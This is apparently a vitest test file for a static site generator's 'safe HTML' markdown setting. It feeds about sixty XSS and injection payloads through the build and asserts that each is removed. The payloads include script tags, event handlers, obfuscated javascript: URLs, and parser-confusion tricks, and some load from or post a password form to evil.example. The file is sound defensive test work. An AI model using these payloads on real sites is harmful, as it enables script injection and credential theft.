import assert from 'node:assert/strict';
import { type DefaultTreeAdapterTypes, parse } from 'parse5';
import { describe, test } from 'vitest';
import { shared } from '../helpers/scope.ts';
import { createSite } from '../helpers/site.ts';

const CONFIG = "export default { title: 'T', url: 'https://example.org', markdown: { html: 'safe' } };\n";

/** Attacks, none of which may have an effect. */
const ATTACKS: readonly string[] = [
  '<script>window.hit = 1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'a <script>window.hit = 1</script> b',
  '<scr<script>ipt>window.hit = 1</script>',
  '<img src=x onerror=window.hit=1>',
  '<img src=x onerror="window.hit=1"//',
  '<img/src=x/onerror=window.hit=1>',
  '<div\nonclick="window.hit=1">x</div>',
  '<div onclick={() => hit()} style={{ position: "fixed" }} dangerouslySetInnerHTML={{ __html: "<script>hit()</script>" }}>x</div>',
  '<a href="javascript:window.hit=1">x</a>',
  '<a href=" jav&#x09;ascript:window.hit=1">x</a>',
  '<a href="&#106;avascript&colon;window.hit=1">x</a>',
  '<a href={"javascript:window.hit=1"}>x</a>',
  '<a href="data:text/html,<script>hit()</script>">x</a>',
  '<a HREF="javascript:window.hit=1" href="https://example.org">x</a>',
  '[x](javascript:window.hit=1)',
  '[x](<java&#115;cript:window.hit=1>)',
  '[x]: javascript:window.hit=1\n\n[x]',
  '<javascript:window.hit=1>',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '<svg onload="window.hit=1"><script>window.hit=1</script></svg>',
  '<svg><a xlink:href="javascript:window.hit=1"><text>x</text></a></svg>',
  '<math><maction xlink:href="javascript:window.hit=1">x</maction></math>',
  '<style>body { display: none }</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p class="navbar">x</p>',
  '## x {.navbar}',
  'x <Badge style="position:fixed;inset:0" onclick="window.hit=1" class="navbar" text="y" /> <Icon name="rocket" style="position:fixed" />',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>window.hit=1</script>"></iframe>',
  '<object data="https://evil.example/x"></object>',
  '<embed src="https://evil.example/x">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example/"><input name="password"><button formaction="javascript:hit()">x</button></form>',
  '<div data-island="Search" data-props="{}">x</div>',
  '<template><script>window.hit=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
  '<x-element onclick="window.hit=1">x</x-element>',
  '<video><source onerror="window.hit=1"></video>',
  '<details open ontoggle="window.hit=1">x</details>',
  '<!--><script>window.hit=1</script>-->',
  '<!-- --!><script>window.hit=1</script> -->',
  '<![CDATA[<script>window.hit=1</script>]]>',
  '<?xml <script>window.hit=1</script> ?>',
  '<!DOCTYPE html><script>window.hit=1</script>',
  '</main></div></body></html>',
  '</article>\n\n<div>\n\nnever closed',
  '> <b>never closed',
  '- <div>\n- </div></div></ul></main>',
  '<b title="</b><script>window.hit=1</script>">x</b>',
  '<a title="\'><script>window.hit=1</script>">x</a>',
  '<Tabs onclick="window.hit=1" style={{ position: "fixed" }}>\n<TabItem value="a" label="<img src=x onerror=hit()>">x</TabItem>\n</Tabs>',
  '<Card title="x" href="javascript:window.hit=1" />',
  '<LinkCard title="x" href=" java&#9;script:window.hit=1" />',
  '::: note {onclick="window.hit=1" style="position:fixed"}\nx\n:::',
  '## Heading {#x" onclick="window.hit=1}',
  '```js title="<script>window.hit=1</script>"\n</code><script>window.hit=1</script>\n```',
  '<Chart href="javascript:window.hit=1" onClick="x" data={{ link: "javascript:hit()", __html: "x" }} dangerouslySetInnerHTML={{ __html: "<script>hit()</script>" }} />',
];

const CHART = `export function Chart({ props }) {
  const { data, ...rest } = props;
  return <div {...rest}>{JSON.stringify(data ?? {})}<a href={data?.link}>chart</a></div>;
}
`;

type Node = DefaultTreeAdapterTypes.Node;
type Element = DefaultTreeAdapterTypes.Element;

function* elementsOf(node: Node): Generator<Element> {
  if ('tagName' in node) yield node;
  if ('childNodes' in node) for (const child of node.childNodes) yield* elementsOf(child);
}

const attribute = (element: Element, name: string) => element.attrs.find((one) => one.name === name)?.value;
const classOf = (element: Element): string => attribute(element, 'class') ?? '';

/** The element that contains the author's text. */
function contentOf(html: string): Element {
  const found = [...elementsOf(parse(html))].find((element) => /\bmarkdown\b/.test(classOf(element)));
  assert.ok(found, 'the page has a text');
  return found;
}

const ACTIVE = /^(?:script|style|iframe|object|embed|base|meta|link|form|input|template|noscript|math|x-element)$/;

/** The first harmful element or attribute, if any. */
function findHarm(content: Element): string | undefined {
  for (const element of elementsOf(content)) {
    const isOurs = element.tagName === 'script' && !JSON.stringify(element.childNodes, ['value']).includes('hit');
    if (ACTIVE.test(element.tagName) && !isOurs) return `<${element.tagName}>`;
    if (attribute(element, 'data-island') === 'Search') return 'an island';
    for (const { name, value } of element.attrs) {
      if (name.startsWith('on')) return `${name} of <${element.tagName}>`;
      if (name === 'style' && /fixed/.test(value)) return 'a style';
      if (name === 'srcdoc') return name;
      if (/^(?:.*href|src|action|data)$/.test(name) && /^[\s\p{Cc}]*(?:javascript|data:text)/iu.test(value))
        return value;
    }
  }
  return undefined;
}

describe('safe HTML', () => {
  const pageOf = (index: number): string => `content/docs/attack-${index}.md`;
  const getSite = shared(async (scope) => {
    const site = await createSite(scope, {
      'site.config.ts': CONFIG,
      'templates/components/Chart.tsx': CHART,
      ...Object.fromEntries(ATTACKS.map((text, index) => [pageOf(index), `# Title\n\nBefore.\n\n${text}\n\nAfter.\n`])),
      'content/docs/harmless.md': HARMLESS,
      'content/docs/dot.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>\n',
    });
    const { exitCode, stderr } = await site.run('build', '--verbose');
    assert.equal(exitCode, 0, stderr);
    return { site, stderr };
  });

  test.each(ATTACKS.map((text, index) => [text, index] as const))('makes an attack harmless: %s', (text, index) => {
    const { site } = getSite();
    const html = site.read(`build/docs/attack-${index}/index.html`);
    const content = contentOf(html);
    assert.equal(findHarm(content), undefined, text);
    const after = [...elementsOf(content)].filter(({ tagName, childNodes: [first] }) => {
      return tagName === 'p' && first && 'value' in first && first.value === 'After.';
    });
    assert.equal(after.length, 1, 'what stands behind it is where it was');
    const main = [...elementsOf(parse(html))].filter((element) =>
      /pagination|theme-doc-footer|<footer/.test(classOf(element)),
    );
    for (const element of main) assert.ok(![...elementsOf(content)].includes(element), 'the page is not caught in it');
  });

  test('removals are reported at their place', () => {
    const { stderr } = getSite();
    assert.match(stderr, /^warning html-removed content\/docs\/attack-0\.md:5:1\n {2}"<script>" is removed/m);
    assert.match(stderr, /^warning html-removed content\/docs\/attack-7\.md:6:1\n {2}"onclick" of "<div>" is removed/m);
  });

  test('harmless HTML stays, and so does everything that sitegen generates', () => {
    const { site, stderr } = getSite();
    assert.doesNotMatch(stderr, /harmless\.md/);
    const html = site.read('build/docs/harmless/index.html');
    for (const expected of [
      /<h2[^>]* id="custom"/,
      /<h2[^>]* id="plain-heading"/,
      /<kbd>Ctrl<\/kbd>/,
      /<details open(?:="")?>/,
      /<a id="anchor"><\/a>/,
      /<img[^>]* alt="dot"[^>]*width="9"/,
      /<a href="https:\/\/example\.com\/\?a=1&amp;b=2" title="x &quot;y&quot;">/,
      /<td align="right">/,
      /H<sub>2<\/sub>O/,
      /class="[^"]*admonition/,
      /class="hljs-keyword"/,
      /class="footnotes"/,
      /type="checkbox"/,
      /role="tablist"/,
      /<p><b>bold <i>both<\/i><\/b> 1 &lt; 2<\/p>/,
    ])
      assert.match(html, expected);
  });
});

const HARMLESS = `# Harmless

## Plain heading

## Custom {#custom}

<kbd>Ctrl</kbd> and H<sub>2</sub>O <a id="anchor"></a>

<b>bold <i>both</i></b> 1 < 2

<details open>
<summary>More</summary>

**Markdown** inside.

</details>

<img src="./dot.svg" alt="dot" width="9">

<a href="https://example.com/?a=1&amp;b=2" title="x &quot;y&quot;">x</a>

<table><tr><td align="right">x</td></tr></table>

:::tip

A tip with \`code\`.

:::

\`\`\`js
const a = 1;
\`\`\`

Text[^1].

- [x] done

[^1]: A note.

<Tabs>
<TabItem value="a" label="A">one</TabItem>
<TabItem value="b" label="B">two</TabItem>
</Tabs>
`;

test('with safe HTML, no page is MDX, so that none runs code', async (t) => {
  const program =
    "import fs from 'node:fs';\n\nexport const ran = fs.writeFileSync('ran.txt', 'x');\n\n# A\n\n{fs.writeFileSync('ran.txt', 'y')}\n";
  const site = await createSite(t, {
    'site.config.ts': CONFIG.replace("html: 'safe'", "html: 'safe', format: 'mdx'"),
    'content/docs/a.mdx': program,
    'content/docs/b.md': program,
  });
  const { exitCode, stderr } = await site.run('build');
  assert.equal(exitCode, 0, stderr);
  assert.equal(site.exists('ran.txt'), false);
  assert.match(site.read('build/docs/a/index.html'), /\{fs\.writeFileSync/);
});

test('without safe HTML, attributes stay, and unknown values of markdown.html are errors', async (t) => {
  const site = await createSite(t, { 'content/docs/a.md': '# A\n\n<p class="x">a</p>\n' });
  await site.run('build');
  assert.match(site.read('build/docs/a/index.html'), /<p class="x">/);
  await site.write({ 'site.config.ts': CONFIG.replace("'safe'", "'strict'") });
  const { stderr } = await site.run('check');
  assert.match(stderr, /markdown\.html: expected "all" or "safe"/);
});
